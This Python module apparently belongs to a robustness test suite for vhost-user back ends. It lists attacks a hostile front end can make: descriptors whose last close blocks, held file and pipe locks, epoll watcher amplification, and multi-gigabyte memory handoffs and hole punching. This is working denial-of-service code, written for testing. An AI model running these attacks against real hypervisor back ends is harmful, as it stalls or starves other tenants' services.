# SPDX-License-Identifier: MIT
"""
What a hostile front end can make the kernel do for its back end: sleep in the last close of an object, wait for a
lock, wake a million watchers, free gigabytes. Each function is an attack. Its front end has memory and runs.
"""

import contextlib
import ctypes
import os
import resource
import select
import socket
import struct
import threading

import cases
from front import CONSTANT, HEADER, REQUEST, USER, Front
from objects import LIBC, Absent, hold_lock

EACH = 8  # the most files of a message
UNTIL = 250  # exchanges of the attacker, in which the neighbours make 1 000
INPUT = 16384  # bytes, more than a back end receives at a time
PUNCH = 3  # FALLOC_FL_PUNCH_HOLE, and the size stays
ASLEEP = "D"  # a sleep that ends by no signal


class Leaving(Front):
    """The back end has the last descriptors of what it gets: a message is complete when ours are closed."""

    objects = None  # that the attack uses

    def send(self, name, payload=b"", files=(), flags=CONSTANT["VERSION"]):
        last = [file for file in set(files) if self.objects is not None and file in self.objects.open]
        if not last:
            super().send(name, payload, files, flags)
            return
        message = HEADER.pack(REQUEST[name], flags, len(payload)) + payload
        socket.send_fds(self.socket, [message[:1]], files)
        self.objects.let_go(*last)
        self.socket.sendall(message[1:])

    def leave(self):
        self.socket.close()


class Attack:
    """
    `classes`: those for which it is meant; None: all. `place` and `name` are an object in a place, as cases.py has
    them. `sleeps`: the back end is seen to sleep in it, and a later SIGTERM finds it there.
    """

    def __init__(self, name, run, classes=None, sleeps=False):
        self.name, self.run, self.classes, self.sleeps = name, run, classes, sleeps

    def suits(self, name):
        return self.classes is None or name in self.classes


# ---- the last close sleeps ----


def in_place(place, name):
    def run(front, objects, _stage):
        cases.PLACES[place](front, objects.make(name))
        cases.kicked(front)

    return run


def in_one_message(name):
    """As many files as a message may have, with one that takes fewer."""

    def run(front, objects, _stage):
        files = [objects.make(name) for _ in range(EACH)]
        front.send("SET_VRING_CALL", bytes(8), files)

    return run


def queued(name):
    """Files that nobody receives: a message before them ends the connection."""

    def run(front, objects, _stage):
        send_behind_the_end(front, objects, [objects.make(name) for _ in range(EACH)])

    return run


def send_behind_the_end(front, objects, files):
    """
    Messages that keep the back end busy while the files follow, then one that ends the connection, then more bytes than
    it receives at a time.
    """
    busy = HEADER.pack(REQUEST["GET_FEATURES"], CONSTANT["VERSION"], 0) * 300
    front.socket.sendall(busy + HEADER.pack(9999, CONSTANT["VERSION"], 0) + bytes(INPUT))
    socket.send_fds(front.socket, [b"y"], files)
    objects.let_go(*files)


def not_accepted(front, objects, stage):
    """Another connection to the same socket, with files in its queue."""
    with Front(stage.place) as other:
        files = [objects.make(LINGERS) for _ in range(EACH)]
        socket.send_fds(other.socket, [b"y"], files)
        objects.let_go(*files)


def replaced(front, objects, _stage):
    """A call that is a socket, in whose queue are sockets that linger; then another call takes its place."""
    at_the_end(front, objects, None)
    front.number("SET_VRING_CALL", 0, [objects.eventfd()])


def at_the_end(front, objects, _stage):
    """The same socket is still the call when the front end leaves."""
    end = objects.make("socket_holds_lingering")
    other = objects.open[-1]  # the end that has sent them
    front.number("SET_VRING_CALL", 0, [end])
    objects.let_go(other)


def requests_replaced(front, objects, _stage):
    for _ in range(2):
        end = objects.make("socket_holds_lingering")
        front.send("SET_BACKEND_REQ_FD", b"", [end])


# ---- a lock is held ----


def memory_locked(front, objects, _stage):
    """MADV_REMOVE of an inflated page waits for the lock of the memory's file."""
    hold_lock(objects, front.files[0])
    page = 0xC0
    front.memory[0x40000:0x40004] = struct.pack("=I", page)
    front.rings[0].put((0x40000, 4, False))


def record_locked(front, objects, _stage):
    """The back end has made the record of requests in flight. The front end holds the lock of its file."""
    cases.stopped(front)
    row = front.ask("GET_INFLIGHT_FD", struct.pack("=QQHH", 0, 0, len(front.rings), 64))
    file = front.files[-1]
    hold_lock(objects, file)
    front.send("SET_INFLIGHT_FD", row, [file])
    for ring in front.rings.values():
        ring.start()
    cases.kicked(front)


def state_locked(front, objects, _stage):
    """The device's state comes through a pipe, whose lock the front end holds."""
    read, write = os.pipe()
    objects.keep(read, write)
    cases.stopped(front)
    hold_lock(objects, write, None)
    front.send("SET_DEVICE_STATE_FD", struct.pack("=II", 1, 0), [read])


# ---- much work ----


@contextlib.contextmanager
def many_files():
    """This program may open as many files as root allows."""
    before = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (before[1], before[1]))
    try:
        yield
    finally:
        resource.setrlimit(resource.RLIMIT_NOFILE, before)


def watches(count):
    """
    Each signal of the call wakes count * count watchers. The neighbours make their exchanges while the attacker makes
    a quarter of them.
    """

    def run(front, objects, stage):
        cases.stopped(front)
        call = objects.eventfd()
        for ring in front.rings.values():
            ring.start(call=call)
        with many_files(), contextlib.ExitStack() as ends:
            again = [os.dup(call) for _ in range(count)]
            for file in again:
                ends.callback(os.close, file)
            for _ in range(count):
                watcher = select.epoll()
                ends.callback(watcher.close)
                for file in again:
                    watcher.register(file, select.EPOLLIN)
            beside(front, stage)

    return run


def beside(front, stage):
    """The attacker's exchanges, while the neighbours make theirs."""
    wanted = stage.neighbours.guest.count + stage.EXCHANGES
    for number in range(UNTIL):
        front.rings[1].put((0x40000, 12 + 60, False))
        front.rings[1].wait()
        if stage.neighbours.guest.count >= wanted:
            return
    missing = wanted - stage.neighbours.guest.count
    raise AssertionError(
        f"the attacker makes {number + 1} exchanges, and {missing} of the neighbours' are missing"
    )


def room(size):
    """There has to be twice as much memory, because others use this machine too."""
    with open("/proc/meminfo", encoding="utf-8") as about:
        available = next(int(row.split()[1]) << 10 for row in about if row.startswith("MemAvailable:"))
    if available < 2 * size:
        raise Absent(f"{size >> 20} MiB of memory, of {available >> 20} available")


def last_close(size):
    """The back end has the last descriptor of so much memory, and nothing maps it but the back end."""

    def run(front, objects, _stage):
        room(size)
        file = objects.memfd(size)
        os.posix_fallocate(file, 0, size)
        front.send("ADD_MEM_REG", struct.pack("=QQQQQ", 0, 1 << 40, size, USER * 2, 0), [file])

    return run


def punches(size):
    """Holes are punched into the memory while the device's rings are in it."""

    def run(front, objects, stage):
        room(size)
        file, ends = front.files[0], threading.Event()
        more = objects.memfd(size)
        front.send("ADD_MEM_REG", struct.pack("=QQQQQ", 0, 1 << 40, size, USER * 2, 0), [os.dup(more)])

        def punch():
            while not ends.is_set():
                os.posix_fallocate(more, 0, size)
                for one, bytes_ in ((more, size), (file, 1 << 20)):
                    LIBC.fallocate(one, PUNCH, ctypes.c_long(0), ctypes.c_long(bytes_))

        thread = threading.Thread(target=punch)
        thread.start()
        try:
            for _ in range(20):
                cases.kicked(front)
                stage.neighbours.more(stage.EXCHANGES // 20)
        finally:
            ends.set()
            thread.join()

    return run


def epoll_closes(count):
    """The last close of an epoll that watches many files."""

    def run(front, objects, _stage):
        watched = objects.eventfd()
        with many_files(), contextlib.ExitStack() as ends:
            watcher = select.epoll()
            for _ in range(count):
                file = os.dup(watched)
                ends.callback(os.close, file)
                watcher.register(file, select.EPOLLIN)
            file = objects.keep(os.dup(watcher.fileno()))
            watcher.close()
            front.number("SET_VRING_CALL", 0, [file])

    return run


def inotify_closes(count):
    """The last close of an inotify with many marks."""

    def run(front, objects, stage):
        folder = stage.work / "marks"
        folder.mkdir(exist_ok=True)
        file = objects.watches()
        for number in range(count):
            place = folder / str(number)
            place.touch()
            LIBC.inotify_add_watch(file, str(place).encode(), 0xFFF)
        front.number("SET_VRING_CALL", 0, [file])

    return run


def memory_queued(count, size):
    """Memory in the queue of the socket, which nobody receives."""

    def run(front, objects, _stage):
        with many_files():
            files = [objects.memfd(size) for _ in range(count)]
            for file in files:
                os.posix_fallocate(file, 0, size)
            send_behind_the_end(front, objects, files)

    return run


NET = ("net",)
WAITS, LINGERS = "fuse_that_waits", "socket_tcp_lingers"
IN_PLACES = {
    name: [Attack(f"{place} {name}", in_place(place, name), NET, name == WAITS) for place in cases.PLACES]
    for name in (LINGERS, WAITS)
}
ALL = [
    *IN_PLACES[WAITS][::3],
    *IN_PLACES[LINGERS][:2],
    Attack("lingering sockets in one message", in_one_message(LINGERS)),
    Attack("files of FUSE in one message", in_one_message(WAITS), sleeps=True),
    Attack("lingering sockets in the queue", queued(LINGERS)),
    Attack("lingering sockets in a connection that nobody has accepted", not_accepted),
    Attack("a call with lingering sockets is replaced", replaced),
    Attack("a call with lingering sockets at the end", at_the_end),
    Attack("a socket for requests with lingering sockets is replaced", requests_replaced),
    Attack("the memory is locked", memory_locked, ("balloon",), True),
    Attack("the record is locked", record_locked, ("blk", "net", "scsi")),
    Attack("the pipe of the state is locked", state_locked, ("rng",), True),
    Attack("watches", watches(250), NET),
    Attack("the last close of memory", last_close(512 << 20), ("net", "blk", "balloon")),
    Attack("holes", punches(64 << 20), NET),
    Attack("the last close of an epoll", epoll_closes(2000)),
    Attack("the last close of an inotify", inotify_closes(1000), NET),
    Attack("memory in the queue", memory_queued(200, 1 << 20)),
]
LARGE = [
    *IN_PLACES[WAITS],
    *IN_PLACES[LINGERS],
    Attack("a million watches", watches(1000), NET),
    Attack("the last close of 4 GiB", last_close(4 << 30)),
    Attack("large holes", punches(3 << 30), NET),
    Attack("the last close of a large epoll", epoll_closes(8000), NET),
    Attack("the last close of a large inotify", inotify_closes(60000), NET),
    Attack("much memory in the queue", memory_queued(200, 16 << 20)),
]
